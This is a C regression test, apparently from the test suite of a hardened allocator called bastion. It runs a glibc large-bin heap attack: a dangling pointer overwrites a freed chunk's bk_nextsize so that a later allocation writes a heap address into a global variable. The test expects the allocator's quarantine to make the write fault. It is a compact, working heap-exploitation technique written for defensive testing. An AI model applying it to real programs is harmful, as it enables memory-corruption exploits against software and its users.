/*
 * Large-bin attack (glibc >= 2.30 variant, sizes scaled up): two big
 * chunks of neighbouring sizes are freed so that the larger one sits in a
 * large bin; the dangling pointer to it overwrites its bk_nextsize with
 * &target - 4 words; inserting the smaller chunk into the same bin then
 * makes the allocator write a heap address into target. The write into
 * the freed large block is the bug: bastion serves these sizes
 * (> 65528 bytes) from their own mappings and keeps freed ones PROT_NONE
 * in its virtual-memory quarantine, so the write faults at once.
 *
 * EXPECT: segv
 *
 * Deterministic: the quarantine holds the last 64 large frees, and only 2
 * large blocks are freed here.
 */
#include "attack.h"

static volatile uint64_t target;

int main(void)
{
	uint64_t *p1 = escape(malloc(100016));
	void *g1 = escape(malloc(24)); /* keeps the chunks apart */
	uint64_t *p2 = escape(malloc(100000));
	void *g2 = escape(malloc(24));
	if (!p1 || !g1 || !p2 || !g2)
		return 2;
	volatile uint64_t *dangling = escape(p1);

	free(p1);
	/* glibc: sorting the unsorted bin moves p1 to a large bin. */
	void *g3 = escape(malloc(110000));
	/* glibc: p2 goes to the unsorted bin. */
	free(p2);
	/* The bug: p1->bk_nextsize = &target - 4 words. */
	dangling[3] = (uint64_t)(uintptr_t)&target - 0x20;
	/* glibc: inserting p2 (smaller than p1) in the bin writes p2 into target. */
	void *g4 = escape(malloc(110000));
	(void)g3;
	(void)g4;
	if (target != 0)
		attack_won("the large-bin attack wrote a heap address into a global");
	attack_won("a write into a freed large block did not fault");
}
